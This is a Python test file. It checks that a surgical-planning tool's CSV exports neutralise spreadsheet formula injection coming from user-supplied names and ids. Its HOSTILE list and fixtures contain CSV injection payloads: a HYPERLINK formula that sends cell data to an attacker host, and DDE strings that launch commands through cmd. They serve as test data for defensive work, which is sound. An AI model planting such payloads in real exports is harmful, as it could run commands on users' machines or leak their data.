"""No CSV ctdrill writes holds a spreadsheet formula, whatever the names it is given.

Trajectory, landmark and calibration names and row ids come from users' files; a cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return runs as a formula in a
spreadsheet (``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0``, ``@SUM(...)``). Every CSV of an
export, a batch and a suggestion is read back cell by cell: such a cell must be a plain
decimal number (a negative depth stays a number); any other starts with a single quote.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctdrill.app.csv_cells import FORMULA_STARTS, csv_table, number_cell, text_cell
from tests.conftest import ASSETS
from tests.robustness.outcomes import run_cli_in_process

DEMO = ASSETS / "demo"
#: Names an attacker would give (OWASP's examples and the issue's).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def formula_cells(folder: Path) -> list[tuple[str, int, str]]:
    """Cells of every ``*.csv`` under ``folder`` a spreadsheet would run: (file, row, cell)."""
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(newline="", encoding="utf-8") as fh:
            for n, row in enumerate(csv.reader(fh)):
                for cell in row:
                    if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
                        found.append((path.relative_to(folder).as_posix(), n, cell))
    return found


def _hostile_case(tmp_path: Path) -> tuple[Path, Path]:
    """The demo plan as trajectories named :data:`HOSTILE`, its canal and its calibration
    set named like formulas too (the set beside the plan)."""
    doc = json.loads((DEMO / "plan.json").read_text(encoding="utf-8"))
    doc["landmarks"][0]["name"] = '=HYPERLINK("http://evil.example")'
    cal = json.loads((ASSETS / "calibration" / "bone-illustrative.json").read_text("utf-8"))
    cal["name"] = "@cal"
    (tmp_path / "cal.json").write_text(json.dumps(cal), encoding="utf-8")
    shared = {k: doc[k] for k in ("format", "coordinate_system", "landmarks")}
    shared["trajectories"] = [
        {
            "name": name,
            "entry_mm": [32.0 + 0.2 * i, 10.0, -29.0],
            "target_mm": [32.0 + 0.2 * i, 10.0, -41.0],
            "calibration": "cal.json",
        }
        for i, name in enumerate(HOSTILE)
    ]
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(shared), encoding="utf-8")
    one = tmp_path / "one.json"
    doc["name"] = HOSTILE[0]
    doc["calibration"] = "cal.json"
    one.write_text(json.dumps(doc), encoding="utf-8")
    return plan, one


def test_export_tables_neutralise_every_name(tmp_path: Path) -> None:
    plan, one = _hostile_case(tmp_path)
    out = tmp_path / "out"
    ct = ["--dicom", str(DEMO / "ct")]
    fast = ["--rate-hz", "100", "--no-plot"]
    run = run_cli_in_process(
        ["export", *ct, "--plan", str(plan), "--out", str(out), *fast, "--per-trajectory"]
    )
    assert run.code == 0, run.stderr
    assert formula_cells(out) == []
    with (out / "trajectories.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["trajectory"] for r in rows] == ["'" + name.replace("\r", "\n") for name in HOSTILE]
    assert {r["binding_landmark"] for r in rows} == {'\'=HYPERLINK("http://evil.example")'}
    assert {r["calibration"] for r in rows} == {"'@cal"}
    assert any(r["entry_z_mm"].startswith("-") for r in rows)  # numbers stay numbers
    single = tmp_path / "single"
    run = run_cli_in_process(["export", *ct, "--plan", str(one), "--out", str(single), *fast])
    assert run.code == 0, run.stderr
    assert formula_cells(single) == []  # force.csv and profile.csv: the calibration column


def test_batch_tables_neutralise_ids_names_and_error_lines(tmp_path: Path) -> None:
    _hostile_case(tmp_path)
    bad = tmp_path / "=bad.json"
    bad.write_text("{", encoding="utf-8")
    manifest = tmp_path / "m.csv"
    manifest.write_text(
        f"id,dicom,plan\n-cmd,{DEMO / 'ct'},plan.json\n_x,{DEMO / 'ct'},=bad.json\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    run = run_cli_in_process(["batch", str(manifest), "--out", str(out), "--no-plot"])
    assert run.code == 4, run
    assert formula_cells(out) == []
    with (out / "status.csv").open(newline="", encoding="utf-8") as fh:
        status = list(csv.DictReader(fh))
    assert [s["id"] for s in status] == ["'-cmd", "_x"]
    assert status[1]["plan"] == "'=bad.json" and "=bad.json" in status[1]["status"]


def test_suggest_candidates_neutralise_landmark_names(tmp_path: Path) -> None:
    doc = json.loads((DEMO / "plan.json").read_text(encoding="utf-8"))
    doc["landmarks"][0]["name"] = "@SUM(1+1)"
    plan = tmp_path / "plan.json"
    plan.write_text(json.dumps(doc), encoding="utf-8")
    out = tmp_path / "out"
    args = ["--dicom", str(DEMO / "ct"), "--plan", str(plan), "--out", str(out)]
    run = run_cli_in_process(["suggest", *args, "--count", "24", "--seed", "1"])
    assert run.code == 0, run.stderr
    assert formula_cells(out) == []
    with (out / "candidates.csv").open(newline="", encoding="utf-8") as fh:
        bindings = {r["binding_landmark"] for r in csv.DictReader(fh)}
    assert "'@SUM(1+1)" in bindings  # the canal binds some candidate: it is written, quoted


@given(st.text(max_size=20))
def test_a_text_cell_never_starts_a_formula_and_is_kept_otherwise(text: str) -> None:
    cell = text_cell(text)
    assert not cell.startswith(FORMULA_STARTS) and "\r" not in cell
    same = text.replace("\r\n", "\n").replace("\r", "\n")
    assert cell in (same, "'" + same)
    assert text_cell(cell) == cell  # idempotent: a table read back and written again


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_in_numeric_columns_stay_numbers(value: float) -> None:
    text = repr(value) if isinstance(value, float) else str(value)
    assert number_cell(text) == text
    assert number_cell("-" + text.lstrip("-")) == "-" + text.lstrip("-")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_numeric_column_holding_text_is_neutralised_too(name: str) -> None:
    table = csv_table([{"n": name, "t": name}], ["n", "t"], text_columns={"t"})
    rows = list(csv.reader(io.StringIO(table, newline="")))
    shown = "'" + name.replace("\r", "\n")
    assert rows == [["n", "t"], [shown, shown]]
